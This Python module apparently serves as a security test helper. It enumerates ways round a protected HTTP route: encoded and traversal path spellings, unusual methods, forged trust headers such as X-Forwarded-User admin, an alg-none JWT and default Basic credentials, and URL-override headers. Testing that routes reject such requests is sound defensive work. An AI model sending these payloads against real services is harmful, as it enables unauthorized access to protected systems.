"""Ways round a protected route that have worked somewhere: spellings of its path, methods, headers that somebody believes."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from typing import NamedTuple

HEADERS = (
    "X-HTTP-Method-Override: GET",
    "X-Forwarded-For: 127.0.0.1",
    "X-Forwarded-User: admin",
    "X-Client-Cert: -----BEGIN CERTIFICATE-----",
    "X-Forwarded-Client-Cert: URI=spiffe://genesis/admin",
    "X-SSL-Client-Verify: SUCCESS",
    "X-Vault-Token: hvs.CAESIJ",
    "Authorization: Bearer",
    "Authorization: Bearer hvs.CAESIJ",
    "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
    "Authorization: Basic YWRtaW46YWRtaW4=",
    "Authorization: Negotiate x",
    "Cookie: session=admin",
    "reconciler.principal: vault:admin",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Content-Type: application/x-www-form-urlencoded",
)
METHODS = ("GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND")


class Attempt(NamedTuple):
    """One request without a proof."""

    method: str
    path: str
    headers: tuple[str, ...] = ()


def attempts(path: str, port: int, *public: str) -> Iterator[Attempt]:
    """All ways to ask for a protected path that might be a way round. `public`: paths that anybody may ask for."""
    yield from (Attempt("GET", spelling) for spelling in spellings(path, public))
    yield from (Attempt(method, path) for method in METHODS)
    yield from (Attempt(method, path, (header,)) for method in ("GET", "POST") for header in HEADERS)
    yield from (
        Attempt("GET", path, (f"{name}: {one}",)) for name in ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix") for one in public
    )
    yield Attempt("GET", f"http://localhost:{port}{path}")


def spellings(path: str, public: Iterable[str]) -> Iterator[str]:
    """Ways to write a path that somebody takes for another, or for the same."""
    first, _, rest = path[1:].partition("/")
    yield path
    yield from (f"{path}/", f"{path}//", f"/{path}", f"//{path}", f"{path}?x=1", f"{path}?", f"{path}#x")
    yield from (path.replace("/", "%2F"), "/" + path[1:].replace("/", "%2f"), f"/%2e{path}", f"/%2e%2e{path}")
    yield from (f"/.{path}", f"/..{path}", f"/x/..{path}")
    yield from (f"{path};x", f"{path}%3bx", f"{path}%00", f"{path}%0a", f"{path}%20", f"{path}%09")
    yield from (path.upper(), path.title(), f"/%{ord(path[1]):02x}{path[2:]}", f"/%25{ord(path[1]):02x}{path[2:]}", path.replace("/", "\\"))
    yield from (
        f"{path}.json",
        f"{path}/.",
        f"{path}/..",
        f"{path}/health",
        f"/{first}/./{rest}",
        f"{path}%c0%ae",
        f"{path}%ff",
        f"{path}%e2%80%ae",
    )
    for one in public:
        yield from (f"{one}/..{path}", f"{one}/%2e%2e{path}", f"{one}/../..{path}", f"{one};{path}", f"{path};{one}", f"{path}/..{one}/x")
